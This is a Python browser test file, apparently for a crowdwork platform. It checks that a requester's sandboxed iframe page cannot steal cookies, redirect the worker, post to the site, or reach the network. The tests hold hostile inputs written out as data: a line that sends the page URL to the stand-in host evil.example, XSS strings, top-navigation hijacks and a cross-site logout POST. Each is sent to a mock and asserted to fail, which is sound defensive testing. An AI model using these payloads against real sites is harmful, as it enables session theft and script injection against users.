"""Hostile HTML in a requester's own page, in a real browser: whatever it tries, it is powerless."""

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from time import monotonic

import pytest
from django.urls import reverse
from playwright.sync_api import expect
from tests.builders import a_draft, a_project, taken
from tests.web import test_tasks_browser
from tests.web.looks import WIDE, faults
from tests.web.test_tasks_browser import Cast, sign_in
from tests.work.designs.in_browser import QUICKLY_SECONDS, until

from canut.work.models import Assignment, FramePermit, Submission

pytestmark = [pytest.mark.browser, pytest.mark.slow]

chromium, site = test_tasks_browser.chromium, test_tasks_browser.site

WORD = {"type": "short_text", "name": "word", "label": "A word", "required": False}
EVIL = "https://evil.example"


def design(html, *more, **fields):
    own = {"type": "own_html", "name": "own", "label": "Fill in this page.", "html": html, **fields}
    return {"version": 1, "instructions": "", "items": [own, WORD, *more]}


class Worker:
    """A worker at a task with a requester's own page in it. `sent` is what was asked of other servers."""

    def __init__(self, browser, site, project, cast, **options):
        self.site, self.cast = site, cast
        self.assignment = taken(worker=cast.worker, project=project, at=cast.at)
        self.context = browser.new_context(base_url=site, **{"viewport": WIDE, **options})
        self.page = self.context.new_page()
        self.sent, self.dialogues, self.downloads = [], [], []
        self.context.route(re.compile(rf"{EVIL}/.*"), self._elsewhere)
        self.page.on("dialog", lambda dialogue: (self.dialogues.append(dialogue.type), dialogue.dismiss()))
        self.page.on("download", lambda file: self.downloads.append(file.url))
        sign_in(self.context, site, cast.worker)
        self.page.goto(reverse("my_work"))  # so that there is somewhere to be led back to
        self.address = site + reverse("task", args=[self.assignment.pk])
        self.page.goto(self.address)

    def _elsewhere(self, route):
        request = route.request
        self.sent.append((request.url, request.all_headers()))
        route.fulfill(status=200, content_type="text/html", body="<p>evil</p>")

    @property
    def frame(self):
        """Return the requester's page once it is there."""
        self.page.wait_for_selector("iframe[data-frame]")
        return next(one for one in self.page.frames if one.parent_frame == self.page.main_frame)

    def in_frame(self, script):
        """Run a script as the requester's page would; return what it says, or the error's name."""
        self.frame.wait_for_load_state()
        assert "/frame/" in self.frame.url, "this is no page of theirs"
        return self.frame.evaluate(
            "async () => { try { return await (async () => {"
            + script
            + "})() } catch (error) { return error.name } }"
        )

    def is_untouched(self):
        """Tell whether the task's page is as it was, with its worker signed in."""
        assert self.page.url == self.address
        assert len(self.context.pages) == 1
        assert self.page.is_visible("[data-hand-in]")
        assert self.context.request.get("/work/").url.endswith("/work/")
        return True


@pytest.fixture
def cast(site):
    return Cast()


@pytest.fixture
def facing(chromium, site, cast):
    """Return a way to sit a worker in front of a page of this HTML."""
    workers = []

    def face(html="<p>{{text}}</p>", *more, rows=1, options=None, **fields):
        project = a_project(owner=cast.requester, rows=rows, design=design(html, *more, **fields), at=cast.at)
        workers.append(Worker(chromium, site, project, cast, **(options or {})))
        return workers[-1]

    yield face
    for worker in workers:
        worker.context.close()


# --- What it tries --------------------------------------------------------------------------------


def test_it_has_no_cookies_to_steal(facing, site):
    worker = facing()
    assert any(cookie["name"] == "sessionid" for cookie in worker.context.cookies())
    assert worker.in_frame("return document.cookie") == "SecurityError"
    assert worker.in_frame("document.cookie = 'a=b'") == "SecurityError"
    worker.in_frame(f"new Image().src = '{EVIL}/?' + encodeURIComponent(location.href)")
    until(worker.page, lambda: worker.sent)
    ((url, headers),) = worker.sent
    assert "sessionid" not in json.dumps([url, headers])
    assert "referer" not in headers
    seen = []
    worker.page.on(
        "request", lambda request: seen.append(request.all_headers()) if "/frame/" in request.url else None
    )
    worker.page.reload()
    worker.frame.wait_for_load_state()
    assert seen
    assert not [headers for headers in seen if "cookie" in headers or "referer" in headers]


def test_it_cannot_read_the_page_around_it(facing):
    worker = facing()
    for what in (
        "parent.document.body.innerHTML",
        "top.document.title",
        "parent.location.href",
        "frameElement.id",
        "parent.localStorage.length",
        "parent.frames[0].parent.document",
    ):
        assert worker.in_frame(f"return {what}") in ("SecurityError", "TypeError"), what
    assert worker.in_frame("return self.origin") == "null"


def test_it_cannot_lead_the_worker_away(facing):
    worker = facing()
    for how in (
        "top.location = '%s/'",
        "parent.location.replace('%s/')",
        "top.location.href = 'javascript:alert(1)'",
        "window.open('%s/', '_top')",
        "const a = document.createElement('a'); a.href = '%s/'; a.target = '_top'; document.body.append(a);"
        " a.click()",
        "history.go(-1)",
        "history.back(); history.back()",
        "parent.history.back()",
        "parent.close(); window.close(); parent.stop()",
    ):
        worker.in_frame(how.replace("%s", EVIL))
        worker.page.wait_for_timeout(500)
        assert worker.is_untouched(), how
        worker.page.reload()  # what it did to itself does not help or hinder the next


def test_a_worker_who_clicks_in_it_is_not_led_away_either(facing):
    worker = facing(
        f'<p><a id=top href="{EVIL}/" target=_top>Continue</a>'
        f' <a id=new href="{EVIL}/" target=_blank>More</a></p>'
        f"<p><button id=go type=button onclick=\"top.location='{EVIL}/'\">Go</button></p>"
    )
    for link in ("#top", "#new", "#go"):
        worker.frame.click(link)
        worker.page.wait_for_timeout(200)
    assert worker.is_untouched()
    assert worker.sent == []


def test_it_cannot_post_to_the_site(facing, site):
    worker = facing()
    out, posted = reverse("account_logout"), []
    worker.page.on(
        "request", lambda request: posted.append(request.url) if request.method == "POST" else None
    )
    for target in ("", "_self", "_top", "_parent", "_blank", "other"):
        worker.in_frame(
            f"""const f = document.createElement('form'); f.method = 'post'; f.action = '{site}{out}';
            f.target = '{target}'; document.body.append(f); f.submit();"""
        )
        worker.page.wait_for_timeout(500)
        assert [url for url in posted if url.endswith(out)] == [], target
        assert worker.is_untouched(), target
        worker.page.reload()


def test_its_scripts_cannot_post_to_the_site_either(facing, site):
    worker = facing()
    out = reverse("account_logout")
    for call in (
        f"await fetch('{site}{out}', {{method: 'POST', credentials: 'include', mode: 'no-cors'}})",
        f"const x = new XMLHttpRequest(); x.open('POST', '{site}{out}', false); x.send()",
    ):
        assert worker.in_frame(call) in ("TypeError", "NetworkError"), call
    worker.in_frame(f"navigator.sendBeacon('{site}{out}', 'x')")
    worker.page.wait_for_timeout(300)
    assert worker.is_untouched()


def test_its_forms_go_nowhere_but_to_its_own_permit(facing):
    worker = facing(
        f'<form action="{EVIL}/take" method=get target=_top><input name=word value=x>'
        f'<button formaction="{EVIL}/take" formtarget=_top>Send</button></form>'
    )
    worker.frame.click("button")
    worker.page.wait_for_selector("[data-framed-done]:visible")
    assert worker.sent == []
    assert FramePermit.objects.get(used_at__isnull=False).answer == {"word": "x"}
    assert worker.is_untouched()


def test_it_has_no_storage(facing):
    worker = facing()
    for what in (
        "localStorage.setItem('a', 'b')",
        "sessionStorage.length",
        "indexedDB.open('a')",
        "await caches.keys()",
    ):
        said = worker.in_frame(f"{what}; return 'stored'")
        assert said in ("SecurityError", "TypeError", "ReferenceError", "UnknownError"), (what, said)
    assert (
        worker.in_frame(
            "return await new Promise((done) => { try { const r = indexedDB.open('a');"
            " r.onerror = () => done('refused'); r.onsuccess = () => done('stored')"
            " } catch { done('refused') } })"
        )
        == "refused"
    )


def test_it_opens_no_windows_dialogues_or_downloads(facing):
    worker = facing()
    assert worker.in_frame("return window.open('about:blank') === null") is True
    worker.in_frame("alert('x'); confirm('x'); prompt('x'); print()")
    worker.in_frame(
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x']));"
        " a.download = 'x.exe'; document.body.append(a); a.click()"
    )
    worker.page.wait_for_timeout(500)
    assert worker.dialogues == []
    assert worker.downloads == []
    assert worker.is_untouched()


def test_a_loop_without_end_does_not_hold_up_the_task(facing):
    worker = facing()
    worker.frame.wait_for_load_state()
    worker.frame.evaluate(
        "() => { setTimeout(() => { const until = Date.now() + 8000; while (Date.now() < until); }, 0) }"
    )
    began = monotonic()
    slowest = 0.0
    while monotonic() - began < 3:
        asked = monotonic()
        worker.page.evaluate("new Promise((done) => requestAnimationFrame(() => done(1)))")
        slowest = max(slowest, monotonic() - asked)
    worker.page.fill("input[name=answer-word]", "still here")
    assert worker.page.input_value("input[name=answer-word]") == "still here"
    assert slowest < 1, f"the task's page stood still for {slowest:.2f} seconds"
    assert monotonic() - began < 7, "the loop was over before we looked"


def test_it_cannot_say_that_it_has_answered(facing):
    worker = facing()
    asked = []
    worker.page.on(
        "request", lambda request: asked.append(request.url) if request.url.endswith("/frames/") else None
    )
    worker.in_frame(
        "for (let i = 0; i < 2000; i++) { parent.postMessage({canut: 'answered', answer: {a: 'b'}}, '*'); }"
        " parent.postMessage('<img src=x onerror=alert(1)>', '*')"
    )
    worker.page.wait_for_timeout(2500)
    assert len(asked) <= 3
    assert worker.page.is_hidden("[data-framed-done]")
    worker.page.click("[data-hand-in]")
    expect(worker.page.locator("main")).to_contain_text("This needs an answer.")
    assert not Submission.objects.exists()


def test_a_message_from_anybody_else_is_not_even_heard(facing):
    worker = facing()
    asked = []
    worker.page.on(
        "request", lambda request: asked.append(request.url) if request.url.endswith("/frames/") else None
    )
    worker.page.evaluate("window.postMessage({canut: 'answered'}, '*')")
    worker.page.wait_for_timeout(800)
    assert asked == []


def test_it_frames_nothing(facing, site):
    worker = facing(
        f'<iframe src="{site}/work/"></iframe><iframe src="{EVIL}/"></iframe><object data="{site}/"></object>'
    )
    worker.frame.wait_for_load_state()
    worker.page.wait_for_timeout(500)
    inside = [one.url for one in worker.page.frames if one.parent_frame == worker.frame]
    assert not [url for url in inside if "/work/" in url or "evil" in url]
    assert worker.sent == []
    worker.in_frame(
        "const f = document.createElement('iframe'); f.srcdoc = '<script>try { top.document.title = 1; }"
        " catch (e) { parent.postMessage(e.name, \"*\") }</' + 'script>'; document.body.append(f)"
    )
    worker.page.wait_for_timeout(300)
    assert worker.is_untouched()


@pytest.mark.parametrize("where", [f"{EVIL}/", "SITE/work/", "javascript:alert(1)"])
def test_it_cannot_refresh_itself_to_another_page(facing, site, where):
    worker = facing(f'<meta http-equiv=refresh content="0;url={where.replace("SITE", site)}"><p>x</p>')
    worker.page.wait_for_timeout(1000)
    assert worker.sent == []
    assert not [one.url for one in worker.page.frames if "evil" in one.url or one.url.endswith("/work/")]
    assert worker.is_untouched()


def test_it_cannot_navigate_itself_to_another_page(facing, site):
    worker = facing()
    for where in (f"{EVIL}/", f"{site}/work/", f"{site.replace('127.0.0.1', 'localhost')}/work/"):
        worker.page.reload()
        worker.in_frame(f"location = '{where}'")
        worker.page.wait_for_timeout(500)
        assert worker.sent == []
        assert worker.is_untouched()
        assert "My work" not in "".join(
            one.evaluate("document.body ? document.body.innerText : ''")
            for one in worker.page.frames
            if one.parent_frame and not one.url.startswith("chrome-error")
        )


def test_a_base_moves_neither_its_forms_nor_its_links(facing):
    worker = facing(
        f'<base href="{EVIL}/" target="_top"><form action="take">'
        "<input name=word value=x><button>Send</button></form>"
    )
    assert worker.in_frame("return document.baseURI").startswith("http://localhost")
    worker.frame.click("button")
    worker.page.wait_for_selector("[data-framed-done]:visible")
    assert worker.sent == []
    assert worker.is_untouched()


def test_it_installs_no_service_worker_and_no_worker_that_outlives_it(facing):
    worker = facing()
    said = worker.in_frame("await navigator.serviceWorker.register('/frame/x'); return 'registered'")
    assert said in ("SecurityError", "TypeError")
    assert worker.in_frame("new SharedWorker('data:text/javascript,'); return 'made'") in (
        "SecurityError",
        "TypeError",
        "ReferenceError",
    )


def test_it_covers_nothing_of_the_page_around_it(facing):
    worker = facing(
        "<div style='position:fixed;inset:-5000px;width:20000px;height:20000px;z-index:2147483647'></div>"
        "<style>html,body{width:9000px;height:9000px;margin:-3000px}</style>"
    )
    worker.frame.wait_for_load_state()
    worker.page.evaluate("document.querySelector('[data-hand-in]').scrollIntoView({block: 'center'})")
    on_top = worker.page.evaluate(
        """() => { const box = document.querySelector('[data-hand-in]').getBoundingClientRect();
        const found = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
        return found.closest('[data-hand-in]') !== null }"""
    )
    assert on_top
    inside = worker.page.evaluate(
        """() => { const frame = document.querySelector('iframe').getBoundingClientRect();
        const item = document.querySelector('[data-framed]').getBoundingClientRect();
        return frame.left >= item.left - 1 && frame.right <= item.right + 1 && frame.height < 600 }"""
    )
    assert inside


def test_it_has_no_devices_and_no_network(facing):
    worker = facing()
    for call in (
        f"await fetch('{EVIL}/')",
        f"new EventSource('{EVIL}/'); throw new TypeError()",
        "await navigator.mediaDevices.getUserMedia({audio: true})",
        "await navigator.clipboard.readText()",
        "await document.documentElement.requestFullscreen()",
        "await navigator.credentials.get({password: true}); throw new TypeError()",
    ):
        assert worker.in_frame(f"{call}; return 'did'") != "did", call
    where = worker.in_frame(
        "return await new Promise((done) =>"
        " navigator.geolocation.getCurrentPosition(() => done('found'), () => done('refused')))"
    )
    assert where in ("refused", "TypeError")
    worker.in_frame(f"new WebSocket('{EVIL.replace('https', 'wss')}/')")
    worker.in_frame(f"navigator.sendBeacon('{EVIL}/', 'x')")
    worker.page.wait_for_timeout(300)
    assert worker.sent == []


def test_a_rows_data_is_never_markup_whoever_wrote_it(facing):
    attack = (
        "</script><script>window.hacked=1</script><img src=x onerror=window.hacked=1>'\"`;window.hacked=1;//"
    )
    worker = facing(
        "<p title='{{text}}' data-x={{text}}>${text}</p><textarea>{{text}}</textarea>"
        "<script>window.told = '${text}';</script><style>p:after{content:'{{text}}'}</style>"
        "<a href='{{text}}' onclick=\"f('{{text}}')\">x</a>"
        "<!-- {{text}} -->",
        rows=[{"text": attack}],
    )
    assert worker.in_frame("return window.hacked === undefined") is True
    assert worker.in_frame("return window.told") == attack
    assert worker.in_frame("return document.querySelector('p').textContent") == attack
    assert worker.in_frame("return document.querySelector('p').title") == attack
    assert worker.in_frame("return document.querySelector('p').dataset.x") == attack
    assert worker.in_frame("return document.querySelector('textarea').value") == attack
    assert worker.in_frame("return document.querySelectorAll('script').length") == 1


# --- And what it is for ---------------------------------------------------------------------------


def test_a_worker_fills_in_a_page_and_hands_it_in(facing):
    worker = facing("<p>{{text}}</p><label>Word <input name=word required></label>")
    expect(worker.frame.locator("body")).to_contain_text("Picture 0")
    worker.frame.fill("input", "hello")
    worker.frame.click("button")
    worker.page.wait_for_selector("[data-framed-done]:visible")
    worker.page.click("summary:has-text('Answer anew')")
    worker.page.wait_for_selector("iframe[data-frame]:visible")
    fresh = worker.page.frame_locator("iframe[data-frame]")
    fresh.locator("input[name=word]").fill("better")
    fresh.locator("button").click()
    fresh.locator("text=These answers are kept").wait_for()
    worker.page.click("[data-hand-in]")
    worker.page.wait_for_selector("text=Handed in")
    assert Submission.objects.get().answer == {"own": {"word": "better"}}


def test_all_of_it_works_with_scripts_off(facing):
    worker = facing("<label>Word <input name=word></label>", options={"java_script_enabled": False})
    worker.page.frame_locator("iframe[data-frame]").locator("input").fill("hello")
    worker.page.frame_locator("iframe[data-frame]").locator("button").click()
    worker.page.frame_locator("iframe[data-frame]").locator("text=These answers are kept").wait_for()
    worker.page.click("text=See whether it has answered")
    expect(worker.page.locator("main")).to_contain_text(
        "Answered: these answers are handed in with the rest."
    )
    worker.page.uncheck("input[name=next]")
    with worker.page.expect_navigation():
        worker.page.click("[data-hand-in]")
    assert Submission.objects.get().answer == {"own": {"word": "hello"}}


def test_work_in_a_frame_counts_as_active_time(facing):
    worker = facing("<label>Word <input name=word></label>")
    worker.page.clock.install()
    worker.page.reload()
    worker.page.frame_locator("iframe[data-frame]").locator("input").click()
    for _each in range(12):
        worker.page.clock.run_for(5000)
    until(worker.page, lambda: int(worker.page.input_value("[data-active-seconds]") or 0) >= 55)


def test_the_page_around_a_frame_is_accessible_and_no_wider_than_the_screen(facing):
    worker = facing(
        "<p>{{text}}</p><label>Word <input name=word></label>",
        {"type": "web_page", "url": "https://evil.example/shop", "title": "The shop"},
    )
    assert faults(worker.page, "task") == []


class Elsewhere(BaseHTTPRequestHandler):
    """A requester's own server, with a page as it would be made for Mechanical Turk."""

    def do_GET(self):
        page = """<form id=f method=post><input name=assignmentId type=hidden><input name=choice value=cat>
        <button>Submit</button></form><script>const told = new URLSearchParams(location.search);
        f.action = told.get('turkSubmitTo') + '/mturk/externalSubmit';
        f.assignmentId.value = told.get('assignmentId');</script>"""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page.encode())

    def log_message(self, *_said):
        """Say nothing on the terminal."""


@pytest.fixture
def elsewhere():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, args=[QUICKLY_SECONDS], daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_a_page_on_another_server_completes_a_task(chromium, site, cast, elsewhere):
    remote = {
        "type": "remote_page",
        "name": "far",
        "label": "Do it there.",
        "url": f"{elsewhere}/do?x={{{{text}}}}",
    }
    items = {"version": 1, "instructions": "", "items": [remote]}
    project = a_project(owner=cast.requester, rows=1, design=items, at=cast.at)
    worker = Worker(chromium, site, project, cast)
    worker.frame.click("button")
    worker.page.wait_for_selector("[data-framed-done]:visible")
    worker.page.click("[data-hand-in]")
    worker.page.wait_for_selector("text=Handed in")
    assert Submission.objects.get().answer == {"far": {"choice": "cat"}}
    assert Assignment.objects.get().state == "submitted"
    worker.context.close()


def test_the_preview_shows_the_page_and_keeps_nothing(chromium, site, cast):
    draft = a_draft(owner=cast.requester, design=design("<p>{{text}}</p><input name=word value=x>"))
    context = chromium.new_context(base_url=site, viewport=WIDE)
    page = context.new_page()
    sign_in(context, site, cast.requester)
    page.goto(reverse("project_preview", args=[draft.pk]))
    frame = page.frame_locator("iframe[data-frame]")
    expect(frame.locator("body")).to_contain_text("Picture 0")
    frame.locator("button").click()
    frame.locator("text=kept nowhere").wait_for()
    assert not FramePermit.objects.exists()
    context.close()
